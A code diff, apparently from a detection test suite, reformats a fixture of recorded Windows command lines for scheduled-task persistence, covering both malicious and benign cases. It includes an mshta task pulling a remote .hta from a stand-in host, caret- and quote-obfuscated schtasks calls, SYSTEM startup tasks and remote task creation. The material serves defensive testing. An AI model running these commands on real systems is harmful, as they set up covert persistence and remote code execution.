@@ -23,17 +23,33 @@ const script = (second, text, path) =>
 
 export const recordings = {
   'command-schtasks.xml': () => [
-    run(1, 'schtasks /create /sc minute /mo 5 /tn Sync /tr C:\\Users\\m.keller\\AppData\\Local\\calc_update.exe'),
-    run(2, 'schtasks  /Create /F /RU "NT AUTHORITY\\SYSTEM" /SC ONSTART /TN Agent /TR "C:\\Program Files\\Northwind\\agent.exe"'),
-    run(3, 'schtasks /create /s SRV-003 /tn Sync /tr "C:\\Windows\\System32\\notepad.exe" /sc once /st 23:59'),
+    run(
+      1,
+      'schtasks /create /sc minute /mo 5 /tn Sync /tr C:\\Users\\m.keller\\AppData\\Local\\calc_update.exe',
+    ),
+    run(
+      2,
+      'schtasks  /Create /F /RU "NT AUTHORITY\\SYSTEM" /SC ONSTART /TN Agent /TR "C:\\Program Files\\Northwind\\agent.exe"',
+    ),
+    run(
+      3,
+      'schtasks /create /s SRV-003 /tn Sync /tr "C:\\Windows\\System32\\notepad.exe" /sc once /st 23:59',
+    ),
     run(4, 'schtasks /change /tn "\\Northwind\\Nightly" /tr "cscript.exe //B D:\\jobs\\n.txt"'),
-    run(5, '"C:\\Windows\\System32\\schtasks.exe" /create /tn Office /sc minute /mo 60 /tr "mshta.exe https://cdn.northwind-update.example/a.hta"'),
+    run(
+      5,
+      '"C:\\Windows\\System32\\schtasks.exe" /create /tn Office /sc minute /mo 60 /tr "mshta.exe https://cdn.northwind-update.example/a.hta"',
+    ),
   ],
   'command-evasive.xml': () => [
     run(11, 'schtasks -CREATE -tn "x" -SC once -st 23:59 -Tr "c^md /c who""ami"'),
-    run(12, 'C:\\Users\\Public\\s.exe /create /tn Backup /tr "D:\\Northwind\\backup.exe" /sc daily', {
-      image: 'C:\\Users\\Public\\s.exe',
-    }),
+    run(
+      12,
+      'C:\\Users\\Public\\s.exe /create /tn Backup /tr "D:\\Northwind\\backup.exe" /sc daily',
+      {
+        image: 'C:\\Users\\Public\\s.exe',
+      },
+    ),
     run(13, 'cmd.exe /c "SCH^TASKS /cr""eate /tn y /tr p^owershell /sc daily"', {
       image: 'C:\\Windows\\System32\\cmd.exe',
       originalName: 'Cmd.Exe',
@@ -48,9 +64,15 @@ export const recordings = {
       image: 'C:\\Windows\\System32\\at.exe',
       originalName: 'AT.EXE',
     }),
-    shell(22, 'powershell -c "regISTER-scheduledTASK -TaskName a -Action (New-ScheduledTaskAction -Execute D:\\n.exe)"'),
+    shell(
+      22,
+      'powershell -c "regISTER-scheduledTASK -TaskName a -Action (New-ScheduledTaskAction -Execute D:\\n.exe)"',
+    ),
     shell(23, 'powershell -nop "(New-Object -ComObject Sched`ule.Serv`ice).Connect()"'),
-    shell(24, 'powershell Invoke-CimMethod -ClassName PS_ScheduledTask -Namespace Root/Microsoft/Windows/TaskScheduler -MethodName RegisterByXml'),
+    shell(
+      24,
+      'powershell Invoke-CimMethod -ClassName PS_ScheduledTask -Namespace Root/Microsoft/Windows/TaskScheduler -MethodName RegisterByXml',
+    ),
     run(25, 'wmic /node:SRV-003 job call create "D:\\n.exe",0,0,true,********154800.000000-420', {
       image: 'C:\\Windows\\System32\\wbem\\WMIC.exe',
       originalName: 'wmic.exe',
@@ -76,7 +98,10 @@ export const recordings = {
     run(51, 'schtasks /query /tn "\\Northwind\\Nightly" /v /fo list'),
     run(52, 'schtasks /run /tn cmd.exe'),
     run(53, 'schtasks /delete /tn powershell /f'),
-    run(54, 'NETSTAT.EXE -at 10:30', { image: 'C:\\Windows\\System32\\NETSTAT.EXE', originalName: 'netstat.exe' }),
+    run(54, 'NETSTAT.EXE -at 10:30', {
+      image: 'C:\\Windows\\System32\\NETSTAT.EXE',
+      originalName: 'netstat.exe',
+    }),
     run(55, 'notepad.exe "C:\\Users\\m.keller\\Documents\\how to schtasks and create.txt"', {
       image: 'C:\\Windows\\System32\\notepad.exe',
       originalName: 'NOTEPAD.EXE',
@@ -84,13 +109,20 @@ export const recordings = {
     shell(56, 'powershell Get-ScheduledTask -TaskName Nightly'),
   ],
   'command-near-setup.xml': () => [
-    run(57, 'schtasks /create /tn "Northwind Report" /tr "\\"C:\\Program Files\\Northwind\\Report\\report.exe\\" /daily" /sc daily /st 09:00'),
-    run(58, 'schtasks.exe /Create /TN Northwind /RU SYSTEM /SC DAILY /TR "C:\\Program Files\\Northwind\\agent.exe"', {
-      user: 'NT AUTHORITY\\SYSTEM',
-      integrity: 'System',
-      parentImage: 'C:\\Windows\\System32\\msiexec.exe',
-      parentCommandLine: 'C:\\Windows\\system32\\msiexec.exe /V',
-    }),
+    run(
+      57,
+      'schtasks /create /tn "Northwind Report" /tr "\\"C:\\Program Files\\Northwind\\Report\\report.exe\\" /daily" /sc daily /st 09:00',
+    ),
+    run(
+      58,
+      'schtasks.exe /Create /TN Northwind /RU SYSTEM /SC DAILY /TR "C:\\Program Files\\Northwind\\agent.exe"',
+      {
+        user: 'NT AUTHORITY\\SYSTEM',
+        integrity: 'System',
+        parentImage: 'C:\\Windows\\System32\\msiexec.exe',
+        parentCommandLine: 'C:\\Windows\\system32\\msiexec.exe /V',
+      },
+    ),
     script(
       59,
       'function Register-ScheduledTask { [CmdletBinding()] param([string] $TaskName) }',
